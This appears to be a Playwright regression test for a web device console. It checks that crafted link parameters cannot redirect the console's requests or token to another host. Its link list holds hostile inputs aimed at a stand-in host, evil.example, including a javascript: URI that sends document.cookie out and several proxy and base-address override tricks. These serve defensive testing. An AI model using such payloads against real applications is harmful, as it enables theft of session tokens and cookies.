/** A crafted link must not make the console send its token anywhere (A87). */
import type { Page } from '@playwright/test';
import { expect, test } from '../fixtures/cloud-test.ts';
import { VILLA } from '../fixtures/servers.ts';

const EVIL = 'http://evil.example:8080';
const links = [
  `base_address=${EVIL}`,
  `use_proxy=true&proxy_url=${EVIL}/hub/${VILLA}`,
  `use_proxy=true&proxy_url=http://127.0.0.1@evil.example:8080/hub/${VILLA}`,
  `use_proxy=true&proxy_url=//evil.example:8080/hub/${VILLA}`,
  `identity_base_url=${EVIL}`,
  `base_address=http://evil.example.127.0.0.1.nip.example`,
  `base_address=${encodeURIComponent('javascript:fetch("http://evil.example:8080/"+document.cookie)')}`,
  `base_address=http://2130706433:8080`,
  `product_id=${encodeURIComponent('../../@evil.example:8080/x')}`,
];

/** Opens the console by a link and returns every origin it requested anything from. */
async function askedBy(page: Page, link: string): Promise<Set<string>> {
  const origins = new Set<string>();
  const note = (thing: { url(): string }): void => {
    const { protocol, origin } = new URL(thing.url());
    if (/^(http|ws)/.test(protocol)) origins.add(origin.replace(/^ws/, 'http'));
  };
  page.on('request', note);
  page.on('websocket', note);
  await page.goto(`/devices/all?${link}`);
  await page.getByRole('button', { name: 'Connected', exact: true }).waitFor();
  page.off('request', note);
  page.off('websocket', note);
  return origins;
}

for (const opens of ['cloud', 'villa'] as const) {
  test.describe(`a page of the ${opens}`, opens === 'cloud' ? {} : { tag: '@soak' }, () => {
    test.use({ opens });

    test('[START-03] requests nothing but its own server, whatever the link says', async ({
      page,
      server,
      hub,
    }) => {
      expect(hub.url).not.toBe('');
      const log: string[] = [];
      page.on('console', (message) => log.push(message.text()));
      if (opens === 'cloud') {
        await page.goto(`/enter/${VILLA}`);
        await page.getByRole('button', { name: 'Connected', exact: true }).waitFor();
      }
      for (const link of links) {
        expect(await askedBy(page, link), link).toEqual(new Set([new URL(server.url).origin]));
        await expect(page, link).toHaveURL('/devices/all');
      }
      const ignored = log.filter((line) => line.includes('this address is not trusted'));
      expect(ignored.length).toBe(links.filter((link) => !link.startsWith('product_id')).length);
    });
  });
}
